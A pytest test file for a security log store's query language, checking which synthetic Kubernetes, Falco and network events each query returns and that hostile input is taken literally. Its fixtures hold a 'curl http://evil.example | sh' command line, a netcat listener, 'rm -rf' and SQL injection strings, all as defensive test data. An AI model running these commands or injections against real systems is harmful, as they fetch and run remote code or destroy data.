"""End to end: queries against a real DuckDBStore, asserting exactly which events come back."""

from __future__ import annotations

import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from keelwatch.errors import QueryError
from keelwatch.parsers.base import Batch
from keelwatch.store.base import TimeRange
from keelwatch.store.duckdb_store import DuckDBStore

T0 = datetime(2026, 3, 1, tzinfo=UTC)
EVERYTHING = TimeRange()
DECISION = "kubernetes.audit.annotations.authorization.k8s.io/decision"
CMDLINE = "falco.output_fields.proc.cmdline"


def at(minute: int) -> datetime:
    return T0 + timedelta(minutes=minute)


def _event(n: int, fields: dict[str, Any]) -> dict[str, Any]:
    """Event ``eNN`` at minute NN: ids sort the same way as time, newest last."""
    return {"@timestamp": at(n), "event.id": f"e{n:02d}", **fields}


def _audit(n: int, verb: str, resource: str, code: int, fields: dict[str, Any]) -> dict[str, Any]:
    return _event(
        n,
        {
            "event.dataset": "kubernetes.audit",
            "kubernetes.audit.verb": verb,
            "kubernetes.audit.objectRef.resource": resource,
            "kubernetes.audit.responseStatus.code": code,
            "kubernetes.audit.requestReceivedTimestamp": at(n),
            **fields,
        },
    )


EVENTS: list[dict[str, Any]] = [
    _audit(
        1,
        "create",
        "pods",
        201,
        {
            "user.name": "system:serviceaccount:kube-system:deployer",
            "user.group.name": [
                "system:serviceaccounts",
                "system:serviceaccounts:kube-system",
                "system:authenticated",
            ],
            DECISION: "allow",
            "message": "create pods nginx-7d9f",
            "event.original": '{"verb":"create",'
            '"objectRef":{"resource":"pods","name":"nginx-7d9f"}}',
        },
    ),
    _audit(
        2,
        "get",
        "secrets",
        403,
        {
            "user.name": "alice@example.com",
            "user.group.name": ["developers", "system:authenticated"],
            DECISION: "forbid",
            "message": 'Forbidden: secrets "db-password" is forbidden',
            "event.original": '{"verb":"get",'
            '"objectRef":{"resource":"secrets","name":"db-password"}}',
        },
    ),
    _audit(
        3,
        "delete",
        "pods",
        200,
        {
            "user.name": "Alice@Example.com",
            "user.group.name": ["Developers"],
            DECISION: "allow",
            "message": "delete pods nginx-7d9f",
            "event.original": '{"verb":"delete","user":"Alice@Example.com"}',
        },
    ),
    _audit(
        4,
        "list",
        "pods",
        401,
        {
            "user.name": "system:anonymous",
            "user.group.name": "system:unauthenticated",  # a single value, not a list
            "message": "Unauthorized",
            "event.original": '{"verb":"list","user":{"username":"system:anonymous"}}',
        },
    ),
    _audit(
        5,
        "create",
        "pods",
        101,
        {
            "user.name": "bob",
            "user.group.name": ["system:masters", "system:authenticated"],
            DECISION: "allow",
            "kubernetes.audit.objectRef.subresource": "exec",
            "message": "Connection REFUSED by upstream",
            "event.original": '{"verb":"create","objectRef":{"subresource":"exec"},'
            '"responseStatus":{"message":"connection refused"}}',
        },
    ),
    _event(
        6,
        {
            "event.dataset": "falco",
            "event.severity": 47,
            "kubernetes.namespace": "shop",
            "kubernetes.pod.name": "web-1",
            "message": "Shell spawned in a container (user=root)",
            CMDLINE: "bash -c curl http://evil.example | sh",
            "falco.output_fields.proc.pid": 4242,
            "event.original": '{"rule":"Terminal shell in container",'
            '"output":"bash -c curl http://evil.example | sh"}',
        },
    ),
    _event(
        7,
        {
            "event.dataset": "falco",
            "event.severity": 73,
            "kubernetes.namespace": "shop",
            "kubernetes.pod.name": "web-2",
            "message": "Netcat listener started",
            CMDLINE: "nc -lvp 4444",
            "falco.output_fields.proc.pid": 77,
            "event.original": '{"rule":"Netcat Remote Code Execution in Container"}',
        },
    ),
    _event(
        8,
        {
            "event.dataset": "hubble.flow",
            "source.ip": "fe80::1",
            "destination.ip": "10.0.0.5",
            "destination.port": 443,
            "network.bytes": 1500,
            "message": "flow forwarded",
            "event.original": '{"verdict":"FORWARDED","IP":{"source":"fe80::1"}}',
        },
    ),
    _event(
        9,
        {
            "event.dataset": "hubble.flow",
            "source.ip": "10.0.0.7",
            "destination.ip": "2001:db8::1",
            "destination.port": 8080,
            "network.bytes": 20.5,
            "message": "flow dropped",
            "event.original": '{"verdict":"DROPPED"}',
        },
    ),
    # Hostile characters, each in exactly one event.
    _event(
        10,
        {
            "event.dataset": "container.log",
            "container.log.tag": "100%",
            "message": "progress 50% done",
            "event.original": "progress 50% done",
        },
    ),
    _event(
        11,
        {
            "event.dataset": "container.log",
            "container.log.tag": "a_b",
            "message": "snake_case_name",
            "event.original": "snake_case_name",
        },
    ),
    _event(
        12,
        {
            "event.dataset": "container.log",
            "container.log.tag": "it's",
            "message": 'it\'s a "quote"',
            "event.original": 'it\'s a "quote"',
        },
    ),
    _event(
        13,
        {
            "event.dataset": "container.log",
            "container.log.tag": "back\\slash",
            "message": "C:\\temp\\file; rm -rf --",
            "event.original": "path C:\\temp\\file; rm -rf --",
        },
    ),
    _event(
        14,
        {
            "event.dataset": "container.log",
            "user.name": "'; DROP TABLE events; --",
            "container.log.tag": "';--",
            "message": "'; DROP TABLE events; --",
            "event.original": "'; DROP TABLE events; --",
        },
    ),
    _event(
        15,
        {
            "event.dataset": "container.log",
            "container.log.tag": "*",
            "message": "wildcard *star* and ?mark?",
            "event.original": "literal *star* and ?mark?",
        },
    ),
    # No message and no event.original: free text cannot find it.
    _event(
        16,
        {
            "event.dataset": "k8s.event",
            "kubernetes.namespace": "default",
            "k8s.event.reason": "BackOff",
            "k8s.event.count": 3,
        },
    ),
]
ALL_IDS = [f"e{n:02d}" for n in range(len(EVENTS), 0, -1)]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DuckDBStore]:
    store = DuckDBStore(tmp_path_factory.mktemp("search"))
    store.append(Batch(events=[dict(event) for event in EVENTS]))
    yield store
    assert store.counts()["events"] == len(EVENTS)  # no query changed or dropped anything
    store.close()


def found(store: DuckDBStore, query: str, window: TimeRange = EVERYTHING) -> list[str]:
    result = store.search(query, window, limit=1000)
    ids = [event["event.id"] for event in result.events]
    assert result.total == len(ids)
    return ids


def ids(expected: str) -> list[str]:
    """``"e01 e05"`` → the ids newest first, the order search returns them in."""
    return sorted(expected.split(), reverse=True)


def everything_but(excluded: str) -> str:
    return " ".join(i for i in ALL_IDS if i not in excluded.split())


CASES = [
    # promoted keyword columns: exact and case-sensitive
    ("kubernetes.audit.verb:create", "e01 e05"),
    ("kubernetes.audit.verb: create", "e01 e05"),
    ("kubernetes.audit.verb:CREATE", ""),
    ("kubernetes.audit.verb:creat", ""),
    ("kubernetes.audit.objectRef.resource:pods", "e01 e03 e04 e05"),
    ("event.dataset:falco", "e06 e07"),
    ("user.name:alice@example.com", "e02"),
    ("user.name:Alice@Example.com", "e03"),
    ("user.name:system:serviceaccount:kube-system:deployer", "e01"),
    ('user.name:"system:anonymous"', "e04"),
    (r"user.name:system\:anonymous", "e04"),
    ("source.ip:fe80::1", "e08"),
    ("destination.ip:2001:db8::1", "e09"),
    ('destination.ip:"2001:db8::1"', "e09"),
    # wildcards on columns
    ("kubernetes.audit.verb:cr*", "e01 e05"),
    ("kubernetes.audit.verb:?et", "e02"),
    ("user.name:*lice*", "e02 e03"),
    ("user.name:Alice*", "e03"),
    ("kubernetes.pod.name:web-?", "e06 e07"),
    ("kubernetes.audit.responseStatus.code:4*", "e02 e04"),
    # exists and negation (NULL columns count as not matching, so NOT finds them)
    ("kubernetes.audit.verb:*", "e01 e02 e03 e04 e05"),
    ("NOT kubernetes.audit.verb:*", everything_but("e01 e02 e03 e04 e05")),
    ("-kubernetes.audit.verb:create", everything_but("e01 e05")),
    ("not kubernetes.audit.verb:create", everything_but("e01 e05")),
    ("NOT NOT kubernetes.audit.verb:create", "e01 e05"),
    # boolean structure
    (
        "kubernetes.audit.verb:create AND kubernetes.audit.objectRef.resource:pods",
        "e01 e05",
    ),
    ("kubernetes.audit.verb:create kubernetes.audit.responseStatus.code:101", "e05"),
    ("kubernetes.audit.verb:get or kubernetes.audit.verb:list", "e02 e04"),
    ("kubernetes.audit.verb:(get OR delete)", "e02 e03"),
    ("kubernetes.audit.verb:(get OR delete OR nothing)", "e02 e03"),
    ("kubernetes.audit.verb:(create AND NOT delete)", "e01 e05"),
    (
        "event.dataset:falco OR event.dataset:hubble.flow AND destination.port:443",
        "e06 e07 e08",
    ),
    (
        "(event.dataset:falco OR event.dataset:hubble.flow) AND destination.port:443",
        "e08",
    ),
    (
        "(event.dataset:falco OR event.dataset:hubble.flow) "
        "AND NOT (event.severity > 50 OR destination.port:443)",
        "e06 e09",
    ),
    ("event.dataset:falco netcat", "e07"),
    ("event.dataset:falco -netcat", "e06"),
    ('event.dataset:falco -"Netcat Remote"', "e06"),
    ("", " ".join(ALL_IDS)),
    # numbers on columns
    ("kubernetes.audit.responseStatus.code >= 400", "e02 e04"),
    ("kubernetes.audit.responseStatus.code>=400", "e02 e04"),
    ("kubernetes.audit.responseStatus.code:>=400", "e02 e04"),
    ("kubernetes.audit.responseStatus.code:403", "e02"),
    ("kubernetes.audit.responseStatus.code:abc", ""),
    ("kubernetes.audit.responseStatus.code:[200 TO 299]", "e01 e03"),
    ("kubernetes.audit.responseStatus.code:{200 TO 299]", "e01"),
    ("kubernetes.audit.responseStatus.code:[* TO 200}", "e05"),
    ("kubernetes.audit.responseStatus.code:[400 TO *]", "e02 e04"),
    ("kubernetes.audit.responseStatus.code:[* TO *]", "e01 e02 e03 e04 e05"),
    ("kubernetes.audit.responseStatus.code < 99999999999999999999999", "e01 e02 e03 e04 e05"),
    ("event.severity > 50", "e07"),
    ("event.severity <= 47", "e06"),
    ("destination.port:443", "e08"),
    ("destination.port:[1000 TO *]", "e09"),
    # timestamps on the @timestamp column
    ("@timestamp >= 2026-03-01T00:14:00Z", "e14 e15 e16"),
    ("@timestamp<2026-03-01T00:02:00Z", "e01"),
    ("@timestamp:[2026-03-01T00:03:00Z TO 2026-03-01T00:05:00Z]", "e03 e04 e05"),
    ("@timestamp:{2026-03-01T00:03:00Z TO 2026-03-01T00:05:00Z}", "e04"),
    ("@timestamp >= 2026-03-01T02:15:00+02:00", "e15 e16"),  # an offset is the same instant
    ("@timestamp < 2026-02-28T19:02:00-05:00", "e01"),
    ("@timestamp:2026-03-01T00:07:00Z", "e07"),
    ('@timestamp:"2026-03-01T02:07:00+02:00"', "e07"),
    (f"@timestamp >= {int(at(15).timestamp())}", "e15 e16"),  # epoch seconds
    (f"@timestamp >= {int(at(15).timestamp() * 1000)}", "e15 e16"),  # epoch milliseconds
    # fields only in the doc: keyword, exact, case-sensitive
    (f"{DECISION}:forbid", "e02"),
    (f"{DECISION}:allow", "e01 e03 e05"),
    (f"{DECISION}:Allow", ""),
    (f"{DECISION}:*", "e01 e02 e03 e05"),
    (f"NOT {DECISION}:*", everything_but("e01 e02 e03 e05")),
    (f"-{DECISION}:allow", everything_but("e01 e03 e05")),
    (f"{DECISION}:(allow OR forbid)", "e01 e02 e03 e05"),
    (f"{DECISION}:a*", "e01 e03 e05"),
    (f"{DECISION}:?orbid", "e02"),
    (f'{CMDLINE}:"nc -lvp 4444"', "e07"),
    (rf"{CMDLINE}:nc\ -lvp\ 4444", "e07"),
    (f"{CMDLINE}:*curl*", "e06"),
    (f"{CMDLINE}:bash*", "e06"),
    (f"{CMDLINE}:BASH*", ""),
    (f"{CMDLINE}:nc", ""),
    ("kubernetes.audit.objectRef.subresource:exec", "e05"),
    ("k8s.event.reason:BackOff", "e16"),
    # numbers only in the doc
    ("falco.output_fields.proc.pid:4242", "e06"),
    ("falco.output_fields.proc.pid:(4242 OR 77)", "e06 e07"),
    ("falco.output_fields.proc.pid > 100", "e06"),
    ("falco.output_fields.proc.pid:[1 TO 100]", "e07"),
    ("network.bytes >= 1000", "e08"),
    ("network.bytes < 100", "e09"),
    ("network.bytes:20.5", "e09"),
    ("network.bytes:{20 TO 21}", "e09"),
    ("network.bytes:[* TO 100]", "e09"),
    ("k8s.event.count:3", "e16"),
    ("k8s.event.count >= 3", "e16"),
    # timestamps only in the doc
    ("kubernetes.audit.requestReceivedTimestamp >= 2026-03-01T00:03:00Z", "e03 e04 e05"),
    (
        "kubernetes.audit.requestReceivedTimestamp:[2026-03-01T00:02:00Z TO 2026-03-01T00:03:00Z}",
        "e02",
    ),
    ("kubernetes.audit.requestReceivedTimestamp >= 2026-03-01T02:04:00+02:00", "e04 e05"),
    ("kubernetes.audit.requestReceivedTimestamp:*", "e01 e02 e03 e04 e05"),
    # list fields: any element matches
    ("user.group.name:system:authenticated", "e01 e02 e05"),
    ("user.group.name:developers", "e02"),
    ("user.group.name:Developers", "e03"),
    ("user.group.name:system:unauthenticated", "e04"),  # a plain value still matches
    ("user.group.name:(developers OR Developers)", "e02 e03"),
    ("user.group.name:system:serviceaccounts*", "e01"),
    ("user.group.name:*masters", "e05"),
    ("user.group.name:system:*", "e01 e02 e04 e05"),
    ("user.group.name:*", "e01 e02 e03 e04 e05"),
    ("NOT user.group.name:system:authenticated", everything_but("e01 e02 e05")),
    ("user.group.name:system", ""),
    # message: case-insensitive substring
    ("message:refused", "e05"),
    ('message:"connection refused"', "e05"),
    ("message:FORBIDDEN", "e02"),
    ("message:nginx", "e01 e03"),
    ("message:*star*", "e07 e15"),
    ('message:"*star*"', "e15"),
    (r"message:\*star\*", "e15"),
    ('message:"?mark?"', "e15"),
    ("message:sn?ke", "e11"),
    ("message:*", everything_but("e16")),
    # free text: case-insensitive substring of event.original
    ("nginx-7d9f", "e01"),
    ("DB-PASSWORD", "e02"),
    ("refused", "e05"),
    ("REFUSED", "e05"),
    ('"Netcat Remote"', "e07"),
    ("netcat", "e07"),
    ("*star*", "e15"),
    ("sna?e", "e11"),
    ("BackOff", ""),  # e16 has no event.original
    ("verb create", "e01 e05"),
]

HOSTILE = [
    # % and _ are LIKE wildcards in SQL; here they are plain characters
    ("%", "e10"),
    ("_", "e11"),
    ("50%", "e10"),
    ("5%", ""),
    ("snak_", ""),
    ("snake_case", "e11"),
    ("message:%", "e10"),
    ('message:"%"', "e10"),
    ("message:_", "e11"),
    ("message:5%", ""),
    ("container.log.tag:%", ""),
    ('container.log.tag:"100%"', "e10"),
    ("container.log.tag:1*%", "e10"),
    ("container.log.tag:*%", "e10"),
    ('container.log.tag:"a%b"', ""),
    ("container.log.tag:a_b", "e11"),
    ("container.log.tag:a?b", "e11"),
    ("container.log.tag:_", ""),
    ("user.name:%", ""),
    ("user.name:*%*", ""),
    ("user.name:_*", ""),
    # quotes
    ("'", "e12 e14"),
    ("it's", "e12"),
    ("container.log.tag:it's", "e12"),
    ('container.log.tag:"it\'s"', "e12"),
    ('message:"\\"quote\\""', "e12"),
    ('message:"it\'s a \\"quote\\""', "e12"),
    # backslashes, semicolons, comment markers
    ("\\\\", "e13"),
    ('"C:\\\\temp"', "e13"),
    ('message:"C:\\\\temp\\\\file"', "e13"),
    ('container.log.tag:"back\\\\slash"', "e13"),
    ("container.log.tag:back\\\\slash", "e13"),
    ("container.log.tag:back*slash", "e13"),
    (";", "e13 e14"),
    ('"--"', "e13 e14"),
    ('container.log.tag:"\';--"', "e14"),
    # SQL injection, taken literally
    ('"\'; DROP TABLE events; --"', "e14"),
    ('message:"\'; DROP TABLE events; --"', "e14"),
    ('user.name:"\'; DROP TABLE events; --"', "e14"),
    ("user.name:\"' OR '1'='1\"", ""),
    ('"\' OR 1=1 --"', ""),
    ("'; DROP TABLE events; --", ""),  # words ANDed, and -- negates a dash that e14 has
    ("1' OR '1'='1", ""),
    ("container.log.tag:\\*", "e15"),
    ('container.log.tag:"*"', "e15"),
    ("container.log.tag:*", "e10 e11 e12 e13 e14 e15"),
]


@pytest.mark.parametrize(("query", "expected"), CASES)
def test_query(store: DuckDBStore, query: str, expected: str) -> None:
    assert found(store, query) == ids(expected)


@pytest.mark.parametrize(("query", "expected"), HOSTILE)
def test_hostile_values_are_taken_literally(store: DuckDBStore, query: str, expected: str) -> None:
    assert found(store, query) == ids(expected)
    assert store.counts()["events"] == len(EVENTS)
    assert store.sql("SELECT count(*) FROM events").rows == [(len(EVENTS),)]


@pytest.mark.parametrize(
    "query",
    [
        "kubernetes.audit.responseStatus.code >= abc",
        "event.severity:[low TO high]",
        "@timestamp >= yesterday",
        "@timestamp:yesterday",
        "a AND",
        '"unterminated',
    ],
)
def test_queries_that_cannot_run_are_query_errors(store: DuckDBStore, query: str) -> None:
    with pytest.raises(QueryError):
        store.search(query, EVERYTHING)


def test_newest_first_with_limit_and_total(store: DuckDBStore) -> None:
    assert found(store, "") == ALL_IDS
    result = store.search("", EVERYTHING, limit=3)
    assert result.total == len(EVENTS)
    assert [e["event.id"] for e in result.events] == ["e16", "e15", "e14"]
    result = store.search("event.dataset:kubernetes.audit", EVERYTHING, limit=2)
    assert result.total == 5
    assert [e["event.id"] for e in result.events] == ["e05", "e04"]
    result = store.search("event.dataset:kubernetes.audit", EVERYTHING, limit=0)
    assert (result.total, result.events) == (5, [])
    assert store.search("", EVERYTHING, limit=-5).events == []


def test_results_are_the_stored_events(store: DuckDBStore) -> None:
    (event,) = store.search("event.id:e01", EVERYTHING).events
    assert event["event.original"] == EVENTS[0]["event.original"]
    assert event["user.group.name"] == EVENTS[0]["user.group.name"]
    assert event["@timestamp"] == "2026-03-01T00:01:00.000000Z"
    (event,) = store.search("event.id:e16", EVERYTHING).events
    assert "event.original" not in event
    assert event["k8s.event.count"] == 3


@pytest.mark.parametrize(
    ("query", "window", "expected"),
    [
        ("", TimeRange(since=at(5), until=at(10)), "e05 e06 e07 e08 e09"),  # [since, until)
        ("", TimeRange(since=at(14)), "e14 e15 e16"),
        ("", TimeRange(until=at(2)), "e01"),
        ("event.dataset:falco", TimeRange(since=at(5)), "e06 e07"),
        ("event.dataset:falco", TimeRange(since=at(7)), "e07"),
        ("event.dataset:falco", TimeRange(until=at(7)), "e06"),
        ("", TimeRange(since=at(10), until=at(10)), ""),
        # aware bounds in any zone are the same instants; naive bounds are UTC
        ("", TimeRange(since=at(14).astimezone(timezone(timedelta(hours=9)))), "e14 e15 e16"),
        ("", TimeRange(until=at(2).astimezone(timezone(timedelta(hours=-5)))), "e01"),
        ("", TimeRange(since=at(14).replace(tzinfo=None)), "e14 e15 e16"),
    ],
)
def test_time_windows(store: DuckDBStore, query: str, window: TimeRange, expected: str) -> None:
    assert found(store, query, window) == ids(expected)


@pytest.fixture
def new_york(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.usefixtures("new_york")
def test_windows_do_not_depend_on_the_local_time_zone(store: DuckDBStore) -> None:
    assert time.timezone != 0
    assert found(store, "", TimeRange(since=at(14))) == ids("e14 e15 e16")
    assert found(store, "", TimeRange(until=at(2))) == ids("e01")
    assert store.count_by("", "event.dataset", TimeRange(since=at(15))) == [
        ("container.log", 1),
        ("k8s.event", 1),
    ]


def test_count_by_a_column(store: DuckDBStore) -> None:
    assert store.count_by("", "event.dataset", EVERYTHING) == [
        ("container.log", 6),
        ("kubernetes.audit", 5),
        ("falco", 2),
        ("hubble.flow", 2),
        ("k8s.event", 1),
    ]
    assert store.count_by("", "kubernetes.audit.verb", EVERYTHING) == [
        (None, 11),
        ("create", 2),
        ("delete", 1),
        ("get", 1),
        ("list", 1),
    ]
    assert store.count_by(
        "event.dataset:kubernetes.audit", "kubernetes.audit.verb", EVERYTHING, limit=2
    ) == [
        ("create", 2),
        ("delete", 1),
    ]
    assert store.count_by("", "event.dataset", TimeRange(since=at(6), until=at(10))) == [
        ("falco", 2),
        ("hubble.flow", 2),
    ]
    assert store.count_by("", "event.severity", EVERYTHING) == [(None, 14), (47, 1), (73, 1)]


def test_count_by_a_doc_field(store: DuckDBStore) -> None:
    assert store.count_by(f"{DECISION}:*", DECISION, EVERYTHING) == [("allow", 3), ("forbid", 1)]
    assert store.count_by("", DECISION, EVERYTHING) == [(None, 12), ("allow", 3), ("forbid", 1)]
    assert store.count_by("event.dataset:falco", "falco.output_fields.proc.pid", EVERYTHING) == [
        ("4242", 1),
        ("77", 1),
    ]
    assert store.count_by("event.dataset:falco", DECISION, EVERYTHING) == [(None, 2)]


@pytest.mark.parametrize("field", ["", "bad field", "a;b", "f')--", "$.x"])
def test_count_by_refuses_what_is_not_a_field_name(store: DuckDBStore, field: str) -> None:
    with pytest.raises(QueryError, match="not a field name"):
        store.count_by("", field, EVERYTHING)


@pytest.mark.parametrize("table", ["alerts", "dead_letters", "events; DROP TABLE events"])
def test_only_events_and_findings_are_searchable(store: DuckDBStore, table: str) -> None:
    with pytest.raises(QueryError, match="cannot search"):
        store.search("", EVERYTHING, table=table)  # type: ignore[arg-type]
    with pytest.raises(QueryError, match="cannot search"):
        store.count_by("", "event.id", EVERYTHING, table=table)  # type: ignore[arg-type]


_QUERY_TEXT = st.one_of(
    st.text(max_size=60),
    st.lists(
        st.sampled_from(
            [
                *("'", '"', "%", "_", "\\", ";", "--", "(", ")", "[", "]", "*", "?", ":", " "),
                *("AND", "OR", "NOT", "TO", ">=", "<", "message:", "user.group.name:"),
                *("@timestamp:", "network.bytes>", "destination.port:", "e0", "1e3", "\u00b2"),
            ]
        ),
        max_size=25,
    ).map("".join),
)


@settings(derandomize=True, database=None, deadline=None, max_examples=300)
@given(_QUERY_TEXT)
def test_any_text_searches_or_raises_query_error(store: DuckDBStore, text: str) -> None:
    try:
        result = store.search(text, EVERYTHING, limit=len(EVENTS))
    except QueryError:
        return
    assert 0 <= result.total <= len(EVENTS)
    assert len(result.events) == result.total


def test_tables_are_intact_after_everything(store: DuckDBStore) -> None:
    assert store.counts() == {"events": len(EVENTS), "findings": 0, "alerts": 0, "dead_letters": 0}
